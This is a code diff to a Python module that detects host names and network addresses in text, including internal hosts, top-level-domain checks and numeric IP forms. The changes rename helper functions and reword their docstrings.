         host = match["host"].lower().strip("[]")
         if ("//" in match[0] or "." in host or host == "localhost") and is_internal(host):
-            found.add(host)
-    return found
+            hosts.add(host)
+    return hosts
 
 
 @cache
 def _ends() -> Container[str]:
-    """Last labels of host names that exist (the root zone of IANA), as ASCII."""
+    """Reads last labels of host names that exist (root zone of IANA)."""
     return _SPECIAL | set((files("textveil.data") / "tlds.txt").read_text("ascii").split())
 
 
-def _last_label(host: str) -> tuple[str, int]:
-    """The last label of a host as a registry writes it, "" where none has it; and how many labels there are."""
+def _find_last_label(host: str) -> tuple[str, int]:
+    """Returns a host's last label, "" if unregistered, and the label count."""
     name = normalize("NFKC", _IGNORED.sub("", unquote(host))).casefold().strip("._-")
     labels = name.split(".")
     last = labels[-1]
@@ -898,20 +990,26 @@ def _last_label(host: str) -> tuple[str, int]:
 
 
 def _count(text: str) -> int:
-    """How many quotation marks of strings a text has."""
+    """Counts quotation marks that are not escaped."""
     return text.count('"') - text.count('\\"')
 
 
 def _is_path(text: str, start: int) -> bool:
-    """Whether a place is inside a path, where a dotted name is a folder or file."""
+    """Says whether an offset is inside a path of folders and files.
+
+    A dotted name there is a folder or file, no host.
+    """
     before = text[max(0, start - 2) : start]
     return before[-1:] in ("~", "$") or (
         before[-1:] in ("/", "\\") and before not in ("//", "\\\\", "/\\", "\\/")
     )
 
 
-def _heads(text: str, low: int) -> Iterator[int]:
-    """Where addresses begin that are open at the end of a text: with a scheme, or a host and what follows it."""
+def _find_heads(text: str, low: int) -> Iterator[int]:
+    """Yields offsets of addresses that are open at the text's end.
+
+    They have a scheme, or a host and a path or port.
+    """
     plain = text.translate(_WIDE)
     for needed, form, begins in _HEADS:
         for match in form.finditer(plain, low) if needed.search(plain) else ():
@@ -927,14 +1025,14 @@ def _of_scheme(found: re.Match[str]) -> int | None:
 def _of_host(found: re.Match[str]) -> int | None:
     if found["rest"] is None or _is_path(found.string, found.start()):
         return None
-    last, labels = _last_label(found["host"])
+    last, labels = _find_last_label(found["host"])
     if not last or labels < 2 or (found["rest"] == ":" and last in _FILES):
         return None
-    return _with_slashes(found.string, found.start())
+    return _include_slashes(found.string, found.start())
 
 
 def _of_number(found: re.Match[str]) -> int | None:
-    start = _with_slashes(found.string, found.start())
+    start = _include_slashes(found.string, found.start())
     if _is_path(found.string, found.start()):
         return None
     return start if _is_number(found["host"], slashes=start < found.start()) else None
@@ -945,18 +1043,18 @@ _HEADS = (
     (re.compile(r"[.%]"), _HOST, _of_host),
     (_PATH, _NUMBER, _of_number),
 )
-"""How addresses begin: what a text must have (quick), what is looked for then, and where one begins that is found."""
+"""Address beginnings: required characters (quick), pattern, and start of a match."""
 
 
-def _with_slashes(text: str, start: int) -> int:
-    """The place where the slashes before a host begin."""
+def _include_slashes(text: str, start: int) -> int:
+    """Moves an offset before the slashes that precede it."""
     while start and text[start - 1] in "/\\":
         start -= 1
     return start
 
 
 def _is_number(host: str, *, slashes: bool) -> bool:
-    """Whether a number is one that readers of addresses take for a host."""
+    """Says whether readers of addresses take a number for a host."""
     if host.startswith("["):
         return host.count(":") > 1
     parts = host.split(".")
@@ -969,24 +1067,24 @@ def _is_number(host: str, *, slashes: bool) -> bool:
 
 
 def _value(part: str) -> int:
-    """The value of a part of a number, which may be hexadecimal or octal."""
+    """Parses one part of a number: decimal, octal or hexadecimal."""
     part = part.lower()
     if part.startswith("0x"):
         return int(part, 16)
     return int(part, 8) if part[0] == "0" and part.strip("01234567") == "" else int(part)
 
 
-def _names(text: str, low: int, *, called: bool) -> Iterator[tuple[int, int]]:
-    """Where names of hosts stand that nothing follows.
+def _find_names(text: str, low: int, *, called: bool) -> Iterator[tuple[int, int]]:
+    """Yields spans of host names without path or port.
 
     Args:
-        text: which.
-        low: where to begin.
-        called: whether a bracket follows the text, so that `user.elena.save` is a function.
+        text: the text.
+        low: offset to begin at.
+        called: True if a bracket follows the text, so that `user.elena.save` is a function.
     """
     plain = text.translate(_WIDE)
     for match in _HOST.finditer(plain, low):
-        last, labels = _last_label(match["host"])
+        last, labels = _find_last_label(match["host"])
         user = match.start() < match.start("host")
         called_so = called and match.end() == len(plain)
         plainly = user or last in _PLAIN_ENDS or (labels > 2 and not called_so)
@@ -995,7 +1093,7 @@ def _names(text: str, low: int, *, called: bool) -> Iterator[tuple[int, int]]:
 
 
 def may_hold_target(text: str) -> bool:
-    """Whether anything in a text may be a target; quick, and never wrongly false."""
+    """Says whether a text may contain a target; quick, never wrongly False."""
     return _ANY.search(text) is not None
 
 
